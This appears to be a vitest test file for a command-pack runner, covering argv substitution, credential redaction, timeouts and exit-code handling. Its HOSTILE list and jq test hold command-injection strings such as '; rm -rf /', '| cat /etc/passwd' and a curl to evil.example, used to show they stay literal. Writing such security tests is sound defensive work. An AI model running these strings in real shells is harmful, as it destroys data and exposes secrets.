import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { fcRuns, needs } from '@harness/test-utils';
import { fc, test } from '@harness/test-utils/property';
import { describe, expect, it } from 'vitest';
import {
  credentialsFrom,
  formatIssue,
  type PackRunOutcome,
  type PackSet,
  runPackCommand,
} from '../src/index';
import { loadErrors, loadOk, workDir } from './helpers';

const SECRET = 'tok-Zq8d7s6f5g4h3j2k1';
const ECHO = `[node, -e, 'process.stdout.write(JSON.stringify(process.argv.slice(1)))', --, '{{value}}']`;

const ws: PackSet = await loadOk(`command_packs:
  - id: t
    timeout: 10s
    credentials_ref: [gh_token]
    env:
      GH_TOKEN: '{{credential.gh_token}}'
      LITERAL: '\${HOME} and $PATH'
    commands:
      - { id: echo, argv: ${ECHO}, effects: read, output: { parse: json } }
      - { id: printf, argv: [printf, '%s\\0', --, '{{value}}'], effects: read }
      - { id: bare, argv: [printf, '%s', '{{value}}'], effects: read }
      - id: dashed
        argv: [node, -e, 'process.stdout.write(JSON.stringify(process.argv.slice(1)))', --, '{{value}}']
        inputs: { value: { type: string, allow_leading_dash: true } }
        effects: read
        output: { parse: json }
      - id: env
        argv: [node, -e, 'process.stdout.write(JSON.stringify(process.env))']
        effects: read
        output: { parse: json }
      - id: leak
        argv: [node, -e, 'console.log("out " + process.env.GH_TOKEN); console.error("err " + process.env.GH_TOKEN)']
        effects: read
      - { id: fail, argv: [node, -e, 'console.error("bad things happened"); process.exit(7)'], effects: read }
      - { id: missing, argv: [no-such-binary-xyz, '{{value}}'], effects: read }
      - { id: json, argv: [node, -e, 'console.log(process.argv[1])', --, '{{value}}'], effects: read, output: { parse: json } }
      - { id: lines, argv: [printf, 'a\\nb\\r\\nc\\n'], effects: read, output: { parse: lines } }
      - { id: text, argv: [printf, 'a\\nb'], effects: read }
      - id: typed
        argv: [node, -e, 'process.stdout.write(JSON.stringify(process.argv.slice(1)))', '{{n}}', '{{flag}}', '{{mode}}', 'x={{ratio?}}']
        inputs:
          n: { type: integer, minimum: 0 }
          flag: { type: boolean }
          mode: { enum: [fast, slow] }
          ratio: { type: number }
        effects: read
        output: { parse: json }
      - { id: touch, argv: [node, -e, 'require("fs").writeFileSync(process.argv[1], "")', '{{file}}'], effects: write }
      - { id: pwd, argv: [node, -e, 'process.stdout.write(process.cwd())'], effects: read }
  - id: bounds
    timeout: 700ms
    max_output: 4KB
    commands:
      - { id: sleep, argv: [sleep, '5'], effects: read }
      - { id: yes, argv: ['yes'], effects: read }
      - id: stubborn
        argv: [sh, -c, 'trap "" TERM; (trap "" TERM; exec sleep 31.4159) & sleep 31.4159; wait']
        effects: read
      # A write, so it runs unconfined (read commands run in a sandbox whose pid namespace would
      # take the escaped process with it): the escape is what this command is about.
      - id: escapes
        argv: [sh, -c, 'setsid sleep 60.2718 & echo started; sleep 31.4159']
        effects: write
  - id: sub
    cwd: nested/dir
    commands:
      - { id: pwd, argv: [node, -e, 'process.stdout.write(process.cwd())'], effects: read }
`);
const credentials = credentialsFrom({ gh_token: SECRET });

async function outcome(
  id: string,
  args: Record<string, unknown> = {},
  w: PackSet = ws,
): Promise<PackRunOutcome> {
  const r = await runPackCommand(w, id, args, { credentials, killGraceMs: 200 });
  if (!r.ok) throw new Error(r.issues.map(formatIssue).join('\n'));
  return r.outcome;
}
async function refused(id: string, args: unknown, opts = { credentials }): Promise<string[]> {
  const r = await runPackCommand(ws, id, args, opts);
  if (r.ok) throw new Error(`expected nothing to run, but ${id} ran`);
  return r.issues.map((i) => `${i.code}: ${i.message}`);
}

const HOSTILE = [
  '; rm -rf /',
  '| cat /etc/passwd',
  '$(whoami)',
  '`id`',
  '&& curl http://evil.example/x',
  'a b c',
  'line1\nline2\r\n',
  `it's "quoted"`,
  'back\\slash\\',
  '*',
  '{{filter}}',
  '{{credential.gh_token}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${VAR} that must stay literal is the point
  '${HOME}',
  '> /tmp/out 2>&1',
];

describe('argv substitution is value-only (the security test)', () => {
  it.each(HOSTILE)(
    '%j reaches a real process as exactly one argv entry, byte for byte [CP-30, CP-31, CP-32, CP-33]',
    async (value) => {
      const o = await outcome('t.echo', { value });
      expect(o.status).toBe('ok');
      expect(o.output).toEqual([value]);
      expect(o.argv).toEqual([
        'node',
        '-e',
        'process.stdout.write(JSON.stringify(process.argv.slice(1)))',
        '--',
        value,
      ]);
    },
  );

  // A leading "-" is refused even after "--" (SEC-10); every other string passes whole.
  test.prop(
    [fc.string({ unit: 'binary', maxLength: 200 }).filter((s) => !s.includes('\0') && !s.startsWith('-'))],
    { numRuns: fcRuns(150) },
  )(
    'any string without NUL or a leading dash reaches printf as exactly one argument (property) [CP-33]',
    async (value) => {
      const o = await outcome('t.printf', { value });
      expect(o.stdout).toBe(`--\0${value}\0`);
    },
    // 150 real processes: about a second on an idle machine, far more on a loaded shared one.
    fcRuns(120_000),
  );

  it('placeholder syntax inside a value is literal; a value spelling a credential reaches argv as text [CP-34, CP-41]', async () => {
    for (const value of ['{{filter}}', '{{credential.gh_token}}', '{credential.gh_token}']) {
      expect((await outcome('t.echo', { value })).output).toEqual([value]);
    }
  });

  it('the template is frozen: a call cannot add arguments or change the executable [CP-35]', async () => {
    expect(await refused('t.echo', { value: 'x', extra: '--exec' })).toMatchInlineSnapshot(`
      [
        "invalid_args: t.echo: argument "extra" is not an input; expected value",
      ]
    `);
    const o = await outcome('t.echo', { value: 'rm' });
    expect(o.argv[0]).toBe('node');
    expect(o.argv).toHaveLength(5);
  });

  it('a placeholder with no value is an error and nothing runs [CP-36]', async () => {
    const file = join(workDir, 'should-not-exist');
    expect(await refused('t.touch', {})).toMatchInlineSnapshot(`
      [
        "invalid_args: t.touch: argument "file" is required and missing; nothing ran",
      ]
    `);
    expect(existsSync(file)).toBe(false);
    await outcome('t.touch', { file });
    expect(existsSync(file)).toBe(true);
  });

  it('D4: a value starting with "-" at the start of an element is refused, even after a literal --, unless its input allows a leading dash [SEC-10]', async () => {
    expect(await refused('t.bare', { value: '--version' })).toMatchInlineSnapshot(`
      [
        "render_refused: t.bare: argv element 2 would start with the value of value, which begins with "-" and would be read as an option; put a literal prefix in the element, or (for a program that honours "--") a literal "--" element before it and allow value a leading dash.",
      ]
    `);
    expect(await refused('t.echo', { value: '--not-a-flag' })).toMatchInlineSnapshot(`
      [
        "render_refused: t.echo: argv element 4 would start with the value of value, which begins with "-"; a literal "--" before it protects only programs that honour "--" (find reads "-delete" after it as an action), so it is refused. Allow value a leading dash only if this program honours "--".",
      ]
    `);
    expect((await outcome('t.dashed', { value: '--not-a-flag' })).output).toEqual(['--not-a-flag']);
  });

  it('an absolute path is passed unchanged (packs do not confine paths) [CP-78]', async () => {
    expect((await outcome('t.echo', { value: '/etc/passwd' })).output).toEqual(['/etc/passwd']);
  });

  it('typed inputs render as one element each: integers in decimal, booleans as true/false, enums as given', async () => {
    expect((await outcome('t.typed', { n: 3, flag: false, mode: 'slow' })).output).toEqual([
      '3',
      'false',
      'slow',
      'x=',
    ]);
    expect((await outcome('t.typed', { n: 0, flag: true, mode: 'fast', ratio: 0.5 })).output).toEqual([
      '0',
      'true',
      'fast',
      'x=0.5',
    ]);
    expect(await refused('t.typed', { n: 1.5, flag: 'yes', mode: 'medium' })).toMatchInlineSnapshot(`
      [
        "invalid_args: t.typed: argument "n" expected an integer, found 1.5",
        "invalid_args: t.typed: argument "flag" expected true or false, found string",
        "invalid_args: t.typed: argument "mode" expected one of "fast", "slow"",
      ]
    `);
    expect(await refused('t.typed', { n: -1, flag: true, mode: 'fast' })).toMatchInlineSnapshot(`
      [
        "invalid_args: t.typed: argument "n" expected at least 0",
      ]
    `);
    expect(await refused('t.typed', 'n=1')).toMatchInlineSnapshot(`
      [
        "invalid_args: t.typed: arguments must be an object",
      ]
    `);
  });
});

describe('environment and credentials', () => {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${VAR} that must stay literal is the point
  it('the environment is the pack env plus PATH and PWD, credentials substituted, ${VAR} never expanded [CP-37]', async () => {
    const env = (await outcome('t.env')).output as Record<string, string>;
    expect(Object.keys(env).sort()).toEqual(['GH_TOKEN', 'LITERAL', 'PATH', 'PWD']);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${VAR} that must stay literal is the point
    expect(env.LITERAL).toBe('${HOME} and $PATH');
    expect(env.PATH).toBe(process.env.PATH);
  });

  it('the host chooses PATH (RunPackOptions.path), never the whole parent env', async () => {
    const r = await runPackCommand(
      ws,
      't.env',
      {},
      { credentials, path: `/usr/bin:/bin:${process.env.PATH}` },
    );
    expect(r.ok && (r.outcome.output as Record<string, string>).PATH).toBe(
      `/usr/bin:/bin:${process.env.PATH}`,
    );
  });

  it('a credential never appears in the argv of the process that ran [CP-39]', async () => {
    const o = await outcome('t.echo', { value: 'x' });
    expect(JSON.stringify(o.argv)).not.toContain(SECRET);
    const env = (await outcome('t.env')).output as Record<string, string>;
    expect(env.GH_TOKEN).toBe('[redacted]'); // it did reach the env, and was redacted on the way out
  });

  it('credential values in stdout and stderr are replaced with [redacted] before leaving the runner', async () => {
    const o = await outcome('t.leak');
    expect([o.stdout, o.stderr]).toEqual(['out [redacted]\n', 'err [redacted]\n']);
  });

  it('a credential value never appears in an error, even when a call passes it as a value [CP-40]', async () => {
    const issues = [
      ...(await refused('t.missing', { value: SECRET })),
      ...(await refused('t.bare', { value: `-${SECRET}` })),
      ...(await refused('t.typed', { n: SECRET, flag: SECRET, mode: SECRET })),
    ];
    expect(issues).toHaveLength(5);
    expect(JSON.stringify(issues)).not.toContain(SECRET);
  });

  it('a credential missing from the source at run time is an error, never an empty string; nothing runs [CP-42]', async () => {
    expect(await refused('t.env', {}, { credentials: credentialsFrom({}) })).toMatchInlineSnapshot(`
      [
        "credential_unavailable: t.env: credential "gh_token" has no value in the credential source; nothing ran (a credential is never replaced by an empty string)",
      ]
    `);
  });

  it('reports a bad argument before a missing credential: the caller can fix the one, not the other', async () => {
    expect(
      await refused('t.echo', { value: 5 }, { credentials: credentialsFrom({}) }),
    ).toMatchInlineSnapshot(`
      [
        "invalid_args: t.echo: argument "value" expected a string, found number",
      ]
    `);
  });
});

describe('bounds', () => {
  it('a command past its timeout is killed and the call fails [CP-47]', async () => {
    const o = await outcome('bounds.sleep');
    expect([o.ok, o.status, o.timedOut]).toEqual([false, 'timed_out', true]);
    expect(o.message).toMatchInlineSnapshot(`"bounds.sleep ran past its timeout of 700ms and was killed"`);
  });

  it('a process tree that ignores SIGTERM is gone after the timeout (checked with ps) [CP-47]', async () => {
    const o = await outcome('bounds.stubborn');
    expect(o.status).toBe('timed_out');
    const ps = execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' });
    expect(ps.split('\n').filter((l) => l.includes('sleep 31.4159'))).toEqual([]);
  });

  it('a command whose descendant escapes the group with setsid and holds stdout ends at its bound with status escaped [SEC-5] [CP-47]', async () => {
    try {
      const o = await outcome('bounds.escapes');
      expect([o.ok, o.status, o.timedOut, o.stdout]).toEqual([false, 'escaped', true, 'started\n']);
      // Timeout, kill grace, the wait for a killed group (2 s), pipe margin, slack for a loaded machine.
      expect(o.durationMs).toBeLessThan(700 + 200 + 2_000 + 200 + 2_000);
      expect(o.message).toMatchInlineSnapshot(
        `"bounds.escapes: a process it started left its process group and kept the output open; reading stopped at the timeout of 700ms (that process may still be running)"`,
      );
    } finally {
      // The escaped sleep is out of every group kill's reach: end it by its pid.
      const ps = execFileSync('ps', ['-eo', 'pid=,args='], { encoding: 'utf8' });
      for (const line of ps.split('\n').filter((l) => l.endsWith('sleep 60.2718'))) {
        process.kill(Number(line.trim().split(' ')[0]), 'SIGKILL');
      }
    }
  });

  it('output past the ceiling fails the command (killed, not truncated silently) [CP-48]', async () => {
    const o = await outcome('bounds.yes');
    expect([o.ok, o.status, o.outputExceeded]).toEqual([false, 'output_exceeded', true]);
    expect(o.stdout.length).toBeLessThanOrEqual(4000 + 200);
    expect(o.message).toMatchInlineSnapshot(
      `"bounds.yes wrote more than 4000 bytes of output (the pack's max_output) and was killed"`,
    );
  });

  it('a nonzero exit is reported with the stderr [CP-49]', async () => {
    const o = await outcome('t.fail');
    expect([o.status, o.exitCode, o.stderr]).toEqual(['exit_nonzero', 7, 'bad things happened\n']);
    expect(o.message).toMatchInlineSnapshot(`"t.fail exited with code 7: bad things happened"`);
  });

  it('an exit code the command declares in ok_exit_codes is a success, any other a failure', async () => {
    const w = await loadOk(`command_packs:
  - id: g
    commands:
      - { id: none, argv: [node, -e, 'process.exit(Number(process.argv[1]))', --, '{{code}}'], effects: read, ok_exit_codes: [0, 1] }
      - { id: strict, argv: [node, -e, 'process.exit(1)'], effects: read }
`);
    const one = await outcome('g.none', { code: '1' }, w);
    expect([one.ok, one.status, one.exitCode, one.message]).toEqual([
      true,
      'ok',
      1,
      'g.none exited with code 1',
    ]);
    const two = await outcome('g.none', { code: '2' }, w);
    expect([two.ok, two.status, two.message]).toEqual([
      false,
      'exit_nonzero',
      'g.none exited with code 2 (no stderr)',
    ]);
    const byDefault = await outcome('g.strict', {}, w);
    expect([byDefault.ok, byDefault.status]).toEqual([false, 'exit_nonzero']);
  });

  it('refuses ok_exit_codes that are not exit codes, with an example of the right shape', async () => {
    expect(
      await loadErrors(`command_packs:
  - id: g
    commands:
      - { id: a, argv: [grep, x], effects: read, ok_exit_codes: [0, 300] }
      - { id: b, argv: [grep, x], effects: read, ok_exit_codes: 1 }
`),
    ).toMatchInlineSnapshot(`
      [
        "workspace.yaml:4:69: command_packs[0].commands[0].ok_exit_codes[1]: expected an exit code 0-255, found number 300; e.g. ok_exit_codes: [0, 1]",
        "workspace.yaml:5:65: command_packs[0].commands[1].ok_exit_codes: expected a list of exit codes, e.g. ok_exit_codes: [0, 1], found number 1",
      ]
    `);
  });

  it('an exit code the command names in failure_exit_codes is that failure, its output kept whole', async () => {
    const w = await loadOk(`command_packs:
  - id: t
    commands:
      - id: unit
        argv: [node, -e, 'console.log("1 failed, 2 passed"); console.error("at test.js:3"); process.exit(Number(process.argv[1]))', --, '{{code}}']
        effects: read
        failure_exit_codes: { 1: tests_failed, 101: build_failed }
`);
    const failed = await outcome('t.unit', { code: '1' }, w);
    expect([failed.ok, failed.status, failed.exitCode, failed.message]).toEqual([
      false,
      'tests_failed',
      1,
      't.unit exited with code 1: tests failed',
    ]);
    expect([failed.stdout, failed.stderr]).toEqual(['1 failed, 2 passed\n', 'at test.js:3\n']);
    expect((await outcome('t.unit', { code: '101' }, w)).status).toBe('build_failed');
    const other = await outcome('t.unit', { code: '2' }, w);
    expect([other.ok, other.status]).toEqual([false, 'exit_nonzero']);
    expect((await outcome('t.unit', { code: '0' }, w)).status).toBe('ok');
  });

  it('refuses a failure_exit_codes key that is not an exit code and a name outside the fixed list', async () => {
    expect(
      await loadErrors(`command_packs:
  - id: g
    commands:
      - { id: a, argv: [grep, x], effects: read, failure_exit_codes: { 300: tests_failed } }
      - { id: b, argv: [grep, x], effects: read, failure_exit_codes: { 1: broken } }
      - { id: c, argv: [grep, x], effects: read, failure_exit_codes: [1] }
`),
    ).toMatchInlineSnapshot(`
      [
        "workspace.yaml:4:72: command_packs[0].commands[0].failure_exit_codes.300: expected an exit code 0-255 as the key, e.g. failure_exit_codes: { 1: tests_failed }, found "300"",
        "workspace.yaml:5:75: command_packs[0].commands[1].failure_exit_codes.1: expected a failure name: tests_failed, problems_found, build_failed, found "broken"; e.g. 1: tests_failed",
        "workspace.yaml:6:70: command_packs[0].commands[2].failure_exit_codes: expected a map from exit code to failure name, e.g. failure_exit_codes: { 1: tests_failed }, found a list of 1",
      ]
    `);
  });

  it('refuses an exit code that is both a success and a named failure, naming both keys', async () => {
    expect(
      await loadErrors(`command_packs:
  - id: g
    commands:
      - { id: a, argv: [grep, x], effects: read, ok_exit_codes: [0, 1], failure_exit_codes: { 1: problems_found } }
      - { id: b, argv: [grep, x], effects: read, failure_exit_codes: { 0: tests_failed } }
`),
    ).toMatchInlineSnapshot(`
      [
        "workspace.yaml:4:98: command_packs[0].commands[0].failure_exit_codes.1: exit code 1 is both in ok_exit_codes and in failure_exit_codes (problems_found); an exit code means success or a named failure, not both: remove it from one of them",
        "workspace.yaml:5:75: command_packs[0].commands[1].failure_exit_codes.0: exit code 0 is both in ok_exit_codes (undeclared, so [0]) and in failure_exit_codes (tests_failed); an exit code means success or a named failure, not both: remove it from one of them",
      ]
    `);
  });

  it('a missing executable is reported by name and nothing runs [CP-50]', async () => {
    expect(await refused('t.missing', { value: 'x' })).toMatchInlineSnapshot(`
      [
        "spawn_failed: t.missing: executable "no-such-binary-xyz" was not found on PATH; install it or fix the pack's argv",
      ]
    `);
  });

  it('the cancel signal kills the run', async () => {
    const ac = new AbortController();
    // Cancelled once the command has started.
    const r = await runPackCommand(
      ws,
      'bounds.sleep',
      {},
      { signal: ac.signal, killGraceMs: 100, onSpawn: () => ac.abort() },
    );
    expect(r.ok && r.outcome.status).toBe('cancelled');
  });
});

describe('output parsing', () => {
  it('parse json returns stdout parsed [CP-57]', async () => {
    expect((await outcome('t.json', { value: '{"a":[1,2]}' })).output).toEqual({ a: [1, 2] });
  });

  it('invalid json is a clear failure that keeps the raw output [CP-58]', async () => {
    const o = await outcome('t.json', { value: 'not json' });
    expect([o.ok, o.status, o.stdout, o.output]).toEqual([false, 'parse_failed', 'not json\n', undefined]);
    expect(o.parseError).toMatch(/^stdout is not valid JSON/);
  });

  it('parse lines splits stdout into lines; no output declaration returns the raw text [CP-59]', async () => {
    expect((await outcome('t.lines')).output).toEqual(['a', 'b', 'c']);
    expect((await outcome('t.text')).output).toBe('a\nb');
  });
});

describe('working directory', () => {
  it('runs in the workspace file directory, or the pack cwd resolved against it', async () => {
    expect((await outcome('t.pwd')).stdout).toBe(workDir);
    mkdirSync(join(workDir, 'nested', 'dir'), { recursive: true });
    expect((await outcome('sub.pwd')).stdout).toBe(join(workDir, 'nested', 'dir'));
  });

  it('an unknown command names it and lists what exists [CP-28]', async () => {
    expect(await refused('t.nope', {})).toMatchInlineSnapshot(`
      [
        "unknown_command: unknown command "t.nope": pack "t" has the commands t.echo, t.printf, t.bare, t.dashed, t.env, t.leak, t.fail, t.missing, t.json, t.lines, t.text, t.typed, t.touch, t.pwd",
      ]
    `);
  });
});

needs('jq').describe('with jq installed', () => {
  it('"; rm -rf /" as a jq filter is an ordinary jq error [CP-86]', async () => {
    const w = await loadOk(`command_packs:
  - id: json-tools
    commands:
      - { id: query, argv: [jq, '{{filter}}', '{{file}}'], effects: read, output: { parse: json } }
`);
    const { writeFileSync } = await import('node:fs');
    writeFileSync(join(workDir, 'p.json'), '[{"name":"Ada"}]');
    const o = await outcome('json-tools.query', { filter: '; rm -rf /', file: 'p.json' }, w);
    expect(o.status).toBe('exit_nonzero');
    expect(o.exitCode).toBe(3);
    expect(o.stderr).toContain('syntax error');
    expect(existsSync(join(workDir, 'p.json'))).toBe(true);
  });
});
